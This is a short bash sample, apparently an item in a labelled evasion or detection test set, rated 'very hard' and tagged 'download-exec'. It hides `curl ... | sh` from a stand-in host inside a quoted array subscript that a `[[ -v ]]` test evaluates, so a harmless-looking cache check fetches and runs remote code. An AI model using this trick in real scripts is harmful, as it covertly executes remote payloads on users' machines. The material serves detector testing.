# evasion: [[ -v ]] on an array element evaluates its subscript, and a command substitution in a quoted subscript runs
# grade: very hard; does: download-exec
declare -a cache=()
key='cache[$(curl -fsSL http://203.0.113.64/p.sh | sh)]'
if [[ -v $key ]]; then
	echo "cache hit"
fi
